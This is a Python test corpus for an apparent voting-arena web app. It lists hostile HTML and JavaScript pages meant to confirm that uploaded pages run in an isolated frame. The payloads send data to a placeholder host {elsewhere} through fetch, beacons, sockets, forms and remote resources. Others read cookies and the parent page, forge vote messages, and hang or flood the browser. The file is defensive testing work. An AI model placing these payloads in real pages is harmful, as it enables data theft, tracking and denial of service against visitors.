"""Web pages: they may run what they hold, in a frame that reaches nothing."""

from arena.models import Kind
from tests.e2e.corpus.attack import attacks


def script(body: str) -> str:
    return f"<!doctype html><title>x</title><p id=p>page</p><script>{body}</script>"


PAGES = attacks(
    Kind.WEB_PAGE,
    {
        "top navigation": script("top.location = 'http://{elsewhere}/'"),
        "top navigation by link": script(
            "const a = document.createElement('a'); a.target = '_top';"
            "a.href = 'http://{elsewhere}/'; document.body.append(a); a.click()"
        ),
        "parent's address": script(
            "parent.location.replace('http://{elsewhere}/#' + Math.random())"
        ),
        "own navigation": script("location.href = 'http://{elsewhere}/?leak=' + document.title"),
        "navigation to the site": script("location.href = document.referrer || '/'"),
        "meta refresh": '<meta http-equiv=refresh content="0;url=http://{elsewhere}/">page',
        "popup": script("window.open('http://{elsewhere}/'); window.open('about:blank')"),
        "dialogs": script("try { alert(1); confirm(2); prompt(3); print() } catch {}"),
        "question at leaving": script(
            "onbeforeunload = (e) => { e.preventDefault(); return 'stay' }"
        ),
        "fetch": script("fetch('http://{elsewhere}/'); fetch('/leaderboard/').catch(() => 0)"),
        "old request": script(
            "const x = new XMLHttpRequest(); x.open('GET', 'http://{elsewhere}/'); x.send()"
        ),
        "beacon": script("navigator.sendBeacon('http://{elsewhere}/', 'leak')"),
        "sockets": script(
            "new WebSocket('ws://{elsewhere}/'); new EventSource('http://{elsewhere}/')"
        ),
        "remote parts": '<script src="http://{elsewhere}/x.js"></script><img src="http://{elsewhere}/i">'
        '<link rel=stylesheet href="http://{elsewhere}/c"><object data="http://{elsewhere}/o"></object>'
        '<embed src="http://{elsewhere}/e"><video poster="http://{elsewhere}/p" src="//{elsewhere}/v">'
        "</video><style>@font-face{font-family:f;src:url(http://{elsewhere}/f)}"
        "body{background:url(http://{elsewhere}/b);font-family:f}</style>",
        "frames in the frame": '<iframe src="http://{elsewhere}/"></iframe><iframe src="data:text/html,'
        "<img src=http://{elsewhere}/>\"></iframe><iframe srcdoc=\"<script>fetch('http://{elsewhere}/');"
        "top.location='http://{elsewhere}/'</script>\"></iframe>",
        "form": '<form id=f action="http://{elsewhere}/" method=post target=_top><input name=a></form>'
        "<script>f.submit()</script>",
        "module and worker": script(
            "import('http://{elsewhere}/m.js').catch(() => 0);"
            "try { new Worker(URL.createObjectURL(new Blob([\"fetch('http://{elsewhere}/')\"]))) } catch {}"
        ),
        "cookies and storage": script(
            "for (const f of [() => document.cookie, () => parent.document.cookie,"
            " () => localStorage.getItem('theme'), () => parent.document.body.innerHTML,"
            " () => (document.cookie = 'stolen=1; path=/'), () => sessionStorage.length])"
            " try { p.textContent += ' ' + f() } catch { p.textContent += ' no' }"
        ),
        "download": script(
            "const a = document.createElement('a'); a.download = 'x'; a.href = 'data:,x'; a.click()"
        ),
        "taking the focus": "<input id=i autofocus><script>setInterval(() => { window.focus();"
        " i.focus() }, 5)</script>",
        "pulling the page": '<div style="height:9000px"></div><b id=b tabindex=0>b</b><script>'
        "setInterval(() => { b.scrollIntoView(); location.hash = 'b' + Math.random() }, 20)</script>",
        "busy for ever": script("setTimeout(() => { for (;;); }, 200)"),
        "huge CSS": "<style>" + ".a .b:not(.c):has(.d){color:red}" * 20_000 + "</style><p>page</p>"
        "<div style='position:fixed;inset:-9999px;z-index:2147483647;background:red'></div>",
        "endless growth": script("setInterval(() => { p.append('x'.repeat(9999)) }, 5)"),
        "messages to the page": script(
            "setInterval(() => parent.postMessage({ vote: 'left', type: 'htmx:afterSwap' }, '*'), 1)"
        ),
        "fullscreen and hardware": script(
            "for (const f of [() => document.body.requestFullscreen(), () => document.body"
            ".requestPointerLock(), () => navigator.geolocation.getCurrentPosition(() => 0),"
            " () => navigator.mediaDevices.getUserMedia({ video: true }),"
            " () => Notification.requestPermission(), () => navigator.clipboard.readText()])"
            " try { f()?.catch?.(() => 0) } catch {}"
        ),
        "history": script("history.back(); history.pushState(0, '', '/x'); parent.history.go(-1)"),
        "names of prefetched hosts": '<link rel=dns-prefetch href="//{elsewhere}/"><link rel=prefetch '
        'href="http://{elsewhere}/"><link rel=prerender href="http://{elsewhere}/"><script type='
        'speculationrules>{"prefetch":[{"source":"list","urls":["http://{elsewhere}/"]}]}</script>',
        "ping": '<a id=a ping="http://{elsewhere}/" href="#x">x</a><script>a.click()</script>',
        "own policy": '<meta http-equiv=Content-Security-Policy content="default-src *">'
        '<img src="http://{elsewhere}/">',
        "peer connection": script(
            "const c = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:{port}' }] });"
            "c.createDataChannel('x'); c.createOffer().then((o) => c.setLocalDescription(o))"
        ),
        "session over HTTP/3": script(
            "try { new WebTransport('https://{elsewhere}/').ready.catch(() => 0) } catch {}"
        ),
        "service worker": script("navigator.serviceWorker?.register('/x.js').catch(() => 0)"),
    },
)
